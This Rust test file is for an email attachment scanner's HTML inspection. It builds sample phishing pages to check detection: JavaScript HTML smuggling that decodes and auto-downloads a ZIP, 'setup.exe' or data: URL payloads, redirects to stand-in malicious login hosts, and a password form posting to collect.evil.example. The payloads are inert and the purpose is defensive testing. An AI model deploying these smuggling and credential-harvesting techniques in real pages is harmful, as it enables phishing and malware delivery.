//! HTML attachments: smuggled payloads handed to the dispatcher, redirects, scripts, forms;
//! and html_to_text on real mails.

use fumidai_core::{hash_only, FileInput, FileKind, FileReport, Limits, Scan};
use fumidai_text::{harvest_passwords, html_to_text, inspect_html};

fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A stored (uncompressed) ZIP with one entry, written byte by byte.
fn stored_zip(name: &str, content: &[u8]) -> Vec<u8> {
    let crc = crc32(content).to_le_bytes();
    let size = (content.len() as u32).to_le_bytes();
    let nlen = (name.len() as u16).to_le_bytes();
    let mut z = Vec::new();
    z.extend_from_slice(b"PK\x03\x04\x0a\x00\x00\x00\x00\x00\x00\x00\x21\x00");
    z.extend_from_slice(&crc);
    z.extend_from_slice(&size);
    z.extend_from_slice(&size);
    z.extend_from_slice(&nlen);
    z.extend_from_slice(&[0, 0]);
    z.extend_from_slice(name.as_bytes());
    z.extend_from_slice(content);
    let cd_start = (z.len() as u32).to_le_bytes();
    let mut cd = Vec::new();
    cd.extend_from_slice(b"PK\x01\x02\x14\x00\x0a\x00\x00\x00\x00\x00\x00\x00\x21\x00");
    cd.extend_from_slice(&crc);
    cd.extend_from_slice(&size);
    cd.extend_from_slice(&size);
    cd.extend_from_slice(&nlen);
    cd.extend_from_slice(&[0; 12]);
    cd.extend_from_slice(name.as_bytes());
    let cd_len = (cd.len() as u32).to_le_bytes();
    z.extend_from_slice(&cd);
    z.extend_from_slice(b"PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00");
    z.extend_from_slice(&cd_len);
    z.extend_from_slice(&cd_start);
    z.extend_from_slice(&[0, 0]);
    z
}

fn base64(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::new();
    for ch in data.chunks(3) {
        let n = ch
            .iter()
            .enumerate()
            .fold(0u32, |a, (k, b)| a | (u32::from(*b) << (16 - 8 * k)));
        for k in 0..4 {
            if k <= ch.len() {
                s.push(char::from(T[((n >> (18 - 6 * k)) & 63) as usize]));
            } else {
                s.push('=');
            }
        }
    }
    s
}

fn sha256_hex(data: &[u8]) -> String {
    FileReport::new("", None, FileKind::Unknown, data).sha256
}

struct Out {
    ids: Vec<&'static str>,
    details: Vec<String>,
    report: FileReport,
}

fn inspect_with(html: &str, limits: &Limits) -> Out {
    let mut scan = Scan::new(limits, hash_only);
    let input = FileInput {
        name: "invoice.html",
        declared_type: Some("text/html"),
        data: html.as_bytes(),
        part: "invoice.html".into(),
        whole: None,
    };
    let mut report = FileReport::new(input.name, input.declared_type, FileKind::Html, input.data);
    inspect_html(&mut scan, &input, &mut report);
    Out {
        ids: scan.findings().iter().map(|f| f.id).collect(),
        details: scan.findings().iter().map(|f| f.detail.clone()).collect(),
        report,
    }
}

fn inspect(html: &str) -> Out {
    inspect_with(html, &Limits::default())
}

fn smuggling_page(b64: &str) -> String {
    format!(
        r#"<html><head><title>請求書</title></head><body><p>ダウンロード中...</p>
<script>
var d = "{b64}";
function toBytes(s) {{ var b = atob(s); var u = new Uint8Array(b.length);
  for (var i = 0; i < b.length; i++) u[i] = b.charCodeAt(i); return u; }}
var blob = new Blob([toBytes(d)], {{type: 'application/zip'}});
var a = document.createElement('a'); a.href = URL.createObjectURL(blob);
a.download = "請求書_4471.zip"; document.body.appendChild(a); a.click();
</script></body></html>"#
    )
}

#[test]
fn smuggled_zip_is_decoded_and_dispatched() {
    let zip = stored_zip("invoice.lnk", b"L\x00\x00\x00not really a shortcut");
    let out = inspect(&smuggling_page(&base64(&zip)));
    assert!(out.ids.contains(&"HTML_SMUGGLING"), "{:?}", out.ids);
    assert!(out.ids.contains(&"HTML_SCRIPT"));
    let d = out
        .details
        .iter()
        .find(|d| d.contains("embedded"))
        .cloned()
        .unwrap_or_default();
    assert!(
        d.contains("zip") && d.contains("atob(") && d.contains("請求書_4471.zip"),
        "{d}"
    );
    assert_eq!(out.report.children.len(), 1);
    let child = out
        .report
        .children
        .first()
        .cloned()
        .unwrap_or_else(|| FileReport::new("", None, FileKind::Unknown, b""));
    assert_eq!(child.name, "請求書_4471.zip");
    assert_eq!(child.size, zip.len() as u64);
    assert_eq!(child.sha256, sha256_hex(&zip));
}

#[test]
fn smuggling_respects_limits() {
    let zip = stored_zip("a.exe", &[b'M'; 3000]);
    let page = smuggling_page(&base64(&zip));
    // The decoded payload is capped at max_file_bytes.
    let out = inspect_with(
        &page,
        &Limits {
            max_file_bytes: 1000,
            ..Limits::default()
        },
    );
    assert_eq!(out.report.children.first().map(|c| c.size), Some(1000));
    // A spent inflation budget stops the hand-off with a finding.
    let out = inspect_with(
        &page,
        &Limits {
            max_inflated_bytes: 100,
            ..Limits::default()
        },
    );
    assert!(out.report.children.is_empty());
    assert!(
        out.ids.contains(&"SCAN_LIMIT_REACHED") && out.ids.contains(&"HTML_SMUGGLING"),
        "{:?}",
        out.ids
    );
}

#[test]
fn char_code_and_data_url_smuggling() {
    let pe: Vec<u8> = b"MZ\x90\x00"
        .iter()
        .copied()
        .chain((0..300u32).map(|i| (i % 251) as u8))
        .collect();
    let codes: Vec<String> = pe.iter().map(u8::to_string).collect();
    let page = format!("<script>var p = new Uint8Array([{}]); var b = new Blob([p]); navigator.msSaveOrOpenBlob(b, 'setup.exe');</script>", codes.join(","));
    let out = inspect(&page);
    assert!(out.ids.contains(&"HTML_SMUGGLING"), "{:?}", out.ids);
    assert_eq!(
        out.report
            .children
            .first()
            .map(|c| (c.name.as_str(), c.sha256.clone())),
        Some(("setup.exe", sha256_hex(&pe)))
    );

    // No script at all: a data: link with a download attribute.
    let zip = stored_zip("a.js", b"WScript.Echo(1)");
    let page = format!(
        r#"<a href="data:application/octet-stream;base64,{}" download="scan.zip">Download</a>"#,
        base64(&zip)
    );
    let out = inspect(&page);
    assert_eq!(out.ids, ["HTML_SMUGGLING"]);
    assert_eq!(
        out.report
            .children
            .first()
            .map(|c| (c.name.as_str(), c.sha256.clone())),
        Some(("scan.zip", sha256_hex(&zip)))
    );
}

#[test]
fn ordinary_html_attachments_are_not_smuggling() {
    // A report with an inline image and a long base64 text in a table: no script, no data: download.
    let png = base64(&[0x89, b'P', b'N', b'G'].repeat(2000));
    let page = format!("<html><body><img src=\"data:image/png;base64,{png}\"><table><tr><td>{}</td></tr></table></body></html>", base64(&[7u8; 6000]));
    let out = inspect(&page);
    assert!(out.ids.is_empty(), "{:?}", out.ids);
    assert!(out.report.children.is_empty());
    // Script that uses atob on a short token only.
    let out = inspect("<script>var t = atob('aGVsbG8=');</script>");
    assert_eq!(out.ids, ["HTML_SCRIPT"]);
}

#[test]
fn redirects_and_credential_forms() {
    let out = inspect(
        r#"<meta http-equiv="refresh" content="0; URL='https://login.evil.example/m365'">"#,
    );
    assert_eq!(out.ids, ["HTML_AUTO_REDIRECT"], "{:?}", out.details);
    let out = inspect(r#"<script>window.location.href = "http://198.51.100.7/owa";</script>"#);
    assert!(
        out.ids.contains(&"HTML_AUTO_REDIRECT") && out.ids.contains(&"LINK_IP_HOST"),
        "{:?}",
        out.ids
    );
    let out = inspect(
        r#"<form action="https://collect.evil.example/p.php"><input name=u><input type="password" name=p></form>"#,
    );
    assert!(
        out.ids.contains(&"HTML_CREDENTIAL_FORM") && out.ids.contains(&"LINK_HTML_FORM"),
        "{:?}",
        out.ids
    );
    // Relative form, no password field: nothing.
    let out = inspect("<form action='/search'><input name=q></form>");
    assert!(out.ids.is_empty(), "{:?}", out.ids);
}

#[test]
fn html_text_of_real_mails() {
    let path = format!(
        "{}/../../testdata/corpus/email/rspamd/zerofont.eml",
        env!("CARGO_MANIFEST_DIR")
    );
    let mail = String::from_utf8_lossy(&std::fs::read(path).unwrap_or_default()).into_owned();
    let text = html_to_text(
        mail.get(mail.find("<!doctype").unwrap_or(0)..)
            .unwrap_or(""),
    );
    assert!(text.contains("test url"), "{text}");
    assert!(text.contains("foo\nbar\nttt\nololo\nbaz"), "{text}");
    assert!(
        !text.contains("<") && !text.contains("Content-Security"),
        "{text}"
    );

    let html = "<div>いつもお世話になっております。</div><div>パスワード：<b>Xk29&amp;a</b></div>\
                <blockquote><div>&gt; 前回のメール</div></blockquote>";
    let text = html_to_text(html);
    assert_eq!(harvest_passwords(&text), ["Xk29&a"], "{text}");
    assert!(text.contains("\n> > 前回のメール"), "{text}");
}
